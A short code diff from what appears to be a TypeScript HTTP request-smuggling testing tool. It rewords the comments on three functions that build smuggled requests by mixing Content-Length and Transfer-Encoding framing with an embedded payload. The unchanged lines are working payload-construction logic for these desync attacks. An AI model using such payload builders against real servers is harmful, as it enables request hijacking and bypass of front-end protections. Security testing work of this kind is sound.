@@ -72,18 +72,20 @@ const spellings: readonly (readonly [name: string, line: string])[] = [
 ]
 
 const shape = {
-  /** Whoever counts takes the stolen request for content; whoever reads chunks does not. */
+  /**
+   * A reader that counts treats the smuggled request as content; one that reads chunks does not.
+   */
   counted: (line: string, payload: Payload) => (aim: Aim) => {
     const body = `0\r\n\r\n${payload(aim)}`
     return post(aim, `Content-Length: ${body.length}`, line) + body
   },
-  /** Whoever reads chunks takes it for content; whoever counts stops before it. */
+  /** A reader of chunks treats it as content; one that counts stops before it. */
   chunked: (line: string, payload: Payload) => (aim: Aim) => {
     const stolen = payload(aim)
     const size = `${stolen.length.toString(16)}\r\n`
     return `${post(aim, line, `Content-Length: ${size.length}`)}${size}${stolen}\r\n0\r\n\r\n`
   },
-  /** Whoever does not see the coding sees no content at all. */
+  /** A reader that does not see the coding sees no content. */
   alone: (line: string, payload: Payload) => (aim: Aim) =>
     post(aim, line) + chunked('x') + payload(aim),
 } as const
